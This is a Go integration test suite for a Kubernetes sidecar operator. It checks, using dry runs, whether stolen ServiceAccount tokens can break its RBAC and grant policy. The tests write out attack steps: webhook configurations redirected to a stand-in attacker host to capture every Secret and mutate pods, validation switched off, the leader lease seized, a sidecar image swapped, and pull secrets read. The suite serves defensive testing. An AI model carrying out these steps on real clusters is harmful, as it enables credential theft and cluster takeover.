package integration

// review6: attacks on docs/security.md's two identities, their generated
// RBAC and the grant policy. Each test FAILS when the attack succeeds
// ("HOLE: ..."). Every write is a dry run, so nothing the suite relies on is
// changed.

import (
	"context"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/rand"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/sidecar-operator/sidecar-operator/api/v1alpha1"
	"github.com/sidecar-operator/sidecar-operator/internal/webhookconfig"
)

// TestReview6StolenControllerTokenRewritesWebhookConfigurations: the grant
// policy covers RBAC objects and Secrets only. docs/security.md says of the
// webhook configurations "Policies do apply to webhook configurations, but
// nothing needs them there: RBAC guards both", and lists what a stolen
// granting token can still do without them. But RBAC grants update by name,
// and an update may change everything in the object: the token alone can
// point the MutatingWebhookConfiguration at its own server, for every
// resource (Secrets' contents as they are written, every pod, to mutate) in
// every namespace, kube-system included; turn pod validation off; and take
// the leader lease, so that no controller repairs any of it.
func TestReview6StolenControllerTokenRewritesWebhookConfigurations(t *testing.T) {
	ctx := context.Background()
	op, _, _ := bindOperatorRoles(t, k8s, cfg, webhookconfig.GrantingServiceAccount, "controller")
	installGrantPolicy(t, k8s, op)

	url := "https://attacker.example.com/mutate"
	everything := []admissionv1.RuleWithOperations{{
		Operations: []admissionv1.OperationType{admissionv1.OperationAll},
		Rule:       admissionv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"*/*"}, Scope: ptr.To(admissionv1.AllScopes)},
	}}

	// 1. The mutating configuration: every request of every kind, everywhere, to the attacker.
	var mwc admissionv1.MutatingWebhookConfiguration
	if err := op.Get(ctx, client.ObjectKey{Name: webhookConfigName}, &mwc); err != nil {
		t.Fatalf("the controllers' token reads its MutatingWebhookConfiguration: %v", err)
	}
	evil := mwc.DeepCopy()
	evil.Webhooks = append(evil.Webhooks, admissionv1.MutatingWebhook{
		Name:                    "steal.attacker.example.com",
		ClientConfig:            admissionv1.WebhookClientConfig{URL: &url, CABundle: []byte("attacker CA")},
		Rules:                   everything,
		FailurePolicy:           ptr.To(admissionv1.Ignore),
		SideEffects:             ptr.To(admissionv1.SideEffectClassNone),
		AdmissionReviewVersions: []string{"v1"},
		NamespaceSelector:       &metav1.LabelSelector{}, // kube-system and the operator's namespace too
		ReinvocationPolicy:      ptr.To(admissionv1.IfNeededReinvocationPolicy),
	})
	if err := op.Update(ctx, evil, client.DryRunAll); err == nil {
		t.Errorf("HOLE: the controllers' ServiceAccount, under its generated ClusterRole and the grant policy, added to MutatingWebhookConfiguration %q "+
			"a webhook to %s for */* in every namespace (kube-system included): every Secret's content as written, and every pod to mutate (privileged, hostPath /), "+
			"with the token alone", webhookConfigName, url)
	} else {
		t.Logf("held: %v", err)
	}

	// 2. The validating configuration: pod validation off (grants then rest on
	// verification alone), or pointed at the attacker too.
	var vwc admissionv1.ValidatingWebhookConfiguration
	if err := op.Get(ctx, client.ObjectKey{Name: webhookConfigName}, &vwc); err != nil {
		t.Fatalf("the controllers' token reads its ValidatingWebhookConfiguration: %v", err)
	}
	off := vwc.DeepCopy()
	for i := range off.Webhooks {
		off.Webhooks[i].FailurePolicy = ptr.To(admissionv1.Ignore)
		off.Webhooks[i].ClientConfig = admissionv1.WebhookClientConfig{URL: &url}
	}
	if err := op.Update(ctx, off, client.DryRunAll); err == nil {
		t.Errorf("HOLE: the controllers' ServiceAccount pointed every webhook of ValidatingWebhookConfiguration %q at %s with failurePolicy Ignore "+
			"(/validate-sidecars and /validate-pods off)", webhookConfigName, url)
	} else {
		t.Logf("held: %v", err)
	}

	// 3. The author policy's binding: Audit instead of Deny, so Sidecar
	// authors (and the token, which patches Sidecars) grant what they lack.
	var authors admissionv1.ValidatingAdmissionPolicyBinding
	if err := op.Get(ctx, client.ObjectKey{Name: webhookconfig.AuthorPolicyName}, &authors); err != nil {
		t.Logf("no author policy binding to loosen here: %v", err)
	} else {
		audit := authors.DeepCopy()
		audit.Spec.ValidationActions = []admissionv1.ValidationAction{admissionv1.Audit}
		if err := op.Update(ctx, audit, client.DryRunAll); err == nil {
			t.Errorf("HOLE: the controllers' ServiceAccount turned the author policy's binding %q to Audit: Sidecars are then admitted with their authors unjudged "+
				"(docs list update by name, but not this among what a stolen token can still do)", webhookconfig.AuthorPolicyName)
		} else {
			t.Logf("held: %v", err)
		}
	}

	// 4. The leader lease: held by the attacker, no controller runs, so
	// nothing above is repaired and no grant is withdrawn.
	leaseKey := client.ObjectKey{Namespace: operatorNamespace, Name: "sidecar-operator-leader"}
	forever := &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: leaseKey.Name},
		Spec: coordinationv1.LeaseSpec{HolderIdentity: new("attacker"), LeaseDurationSeconds: new(int32(1 << 30)),
			RenewTime: &metav1.MicroTime{Time: time.Now()}}}
	var err error
	var have coordinationv1.Lease
	if getErr := op.Get(ctx, leaseKey, &have); getErr == nil {
		have.Spec = forever.Spec
		err = op.Update(ctx, &have, client.DryRunAll)
	} else {
		err = op.Create(ctx, forever, client.DryRunAll)
	}
	if err == nil {
		t.Errorf("HOLE: the controllers' ServiceAccount took the leader lease %s for 2^30 s: no replica leads, so no controller repairs the configurations "+
			"above, withdraws a grant or keeps the scope", leaseKey)
	} else {
		t.Logf("held: %v", err)
	}
}

// TestReview6StolenWebhookTokenReadsEverySecretOfItsNamespace: docs say a
// stolen webhook token reads "in its own namespace its Secrets (the signing
// key, which signs injection records, and its serving certificate)". Its
// generated Role reads every Secret there, by no name: the pull secret
// sources (--pull-secret-namespaces defaults to --namespace, and the
// controllers' Role reads them there), Helm's release Secrets, and any
// ServiceAccount token Secret of sidecar-operator-controller (the granting
// identity).
func TestReview6StolenWebhookTokenReadsEverySecretOfItsNamespace(t *testing.T) {
	ctx := context.Background()
	source := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: "review6-registry-" + rand.String(5)},
		Type:       corev1.SecretTypeDockerConfigJson,
		Data:       map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{"registry.example.com":{"auth":"cm9vdDpodW50ZXIy"}}}`)},
	}
	createAdmin(t, source)
	wh, _, _ := bindOperatorRoles(t, k8s, cfg, "review6-webhook", "webhook")

	var got corev1.Secret
	if err := wh.Get(ctx, client.ObjectKeyFromObject(source), &got); err == nil {
		t.Errorf("HOLE: the webhook's ServiceAccount, under its generated ClusterRole and Role, read the pull secret source %s/%s: %s",
			got.Namespace, got.Name, got.Data[corev1.DockerConfigJsonKey])
	} else {
		t.Logf("held: %v", err)
	}
	var list corev1.SecretList
	if err := wh.List(ctx, &list, client.InNamespace(operatorNamespace)); err == nil {
		var names []string
		for _, s := range list.Items {
			if s.Name != "sidecar-operator-signing-key" && s.Name != certSecret {
				names = append(names, s.Name+" ("+string(s.Type)+")")
			}
		}
		if len(names) > 0 {
			t.Errorf("HOLE: the webhook's ServiceAccount lists, with their data, Secrets of %s that are not its signing key or certificate: %s",
				operatorNamespace, strings.Join(names, ", "))
		}
	}
}

// TestReview6StolenControllerTokenRewritesASidecar: the controllers patch
// Sidecars (finalizers). A patch of the spec, the Sidecar's image for one,
// would run the attacker's code in every pod it selects; the author policy
// judges the token like any author, and it does not hold create on pods.
// Expected to hold while the author policy stands (its binding is the
// token's to update, above).
func TestReview6StolenControllerTokenRewritesASidecar(t *testing.T) {
	ctx := context.Background()
	sc := exampleSidecars(t)["fluentd"]
	applySidecar(t, sc)
	op, _, _ := bindOperatorRoles(t, k8s, cfg, webhookconfig.GrantingServiceAccount, "controller")
	installGrantPolicy(t, k8s, op)
	var have v1alpha1.Sidecar
	if err := k8s.Get(ctx, client.ObjectKeyFromObject(sc), &have); err != nil {
		t.Fatal(err)
	}
	changed := have.DeepCopy()
	changed.Spec.Containers[0].Image = attackerImage
	if err := op.Patch(ctx, changed, client.MergeFrom(&have), client.DryRunAll); err == nil {
		t.Errorf("HOLE: the controllers' ServiceAccount patched Sidecar %s's image to %s", sc.Name, attackerImage)
	} else {
		t.Logf("held: %v", err)
	}
}

// TestReview6EveryReplicaDownRefusesMetadataWritesOfInjectedPods: the
// pods/status matchCondition lets kubelets report with every replica down
// (or with the webhook's budget filled by a stranger, which docs/security.md
// says costs only "its resources"), but every other UPDATE of a pod that
// carries a record is still sent to /validate-pods, Fail, though the
// validator judges only the record and the injected containers: the Job
// controller's removal of batch.kubernetes.io/job-tracking from a finished
// pod, the garbage collector's and ReplicaSet's ownerReference writes, a
// label. Every injected Job pod then keeps its finalizer and its Job never
// completes.
func TestReview6EveryReplicaDownRefusesMetadataWritesOfInjectedPods(t *testing.T) {
	ctx := context.Background()
	team := "r6-" + rand.String(6)
	selected := createNamespace(t, map[string]string{"failsmall": team})
	sc := &v1alpha1.Sidecar{ObjectMeta: metav1.ObjectMeta{Name: team}}
	sc.Spec.Containers = []corev1.Container{{Name: "agent", Image: "example/agent:1"}}
	sc.Spec.Selector = &metav1.LabelSelector{}
	sc.Spec.NamespaceSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"failsmall": team}}
	applySidecar(t, sc)
	pod := plainPod(selected)
	pod.Finalizers = []string{"batch.kubernetes.io/job-tracking"}
	if err := k8s.Create(ctx, pod); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		p := &corev1.Pod{}
		if k8s.Get(context.Background(), client.ObjectKeyFromObject(pod), p) == nil {
			p.Finalizers = nil
			_ = k8s.Update(context.Background(), p)
			_ = k8s.Delete(context.Background(), p)
		}
	})
	if !strings.Contains(pod.Annotations[v1alpha1.AnnotationStatus], `"`+team+`"`) {
		t.Fatalf("pod not injected: %v", pod.Annotations)
	}
	closed, err := freeAddr()
	if err != nil {
		t.Fatal(err)
	}
	replicasDown(t, "https://"+closed)

	// What the Job controller sends once the pod is tracked: a patch of the finalizers alone.
	patch := client.RawPatch("application/json-patch+json", []byte(`[{"op":"remove","path":"/metadata/finalizers/0"}]`))
	var last error
	refused := within(15*time.Second, func() bool {
		last = k8s.Patch(ctx, pod.DeepCopy(), patch, client.DryRunAll)
		return last != nil && strings.Contains(last.Error(), "pods.down.sidecar-operator.io")
	})
	if refused {
		t.Errorf("HOLE: with every replica down, the Job controller's removal of the job-tracking finalizer from injected pod %s/%s is refused, "+
			"though it changes neither the record nor a container: %v", pod.Namespace, pod.Name, last)
	} else {
		t.Logf("held: %v", last)
	}
}
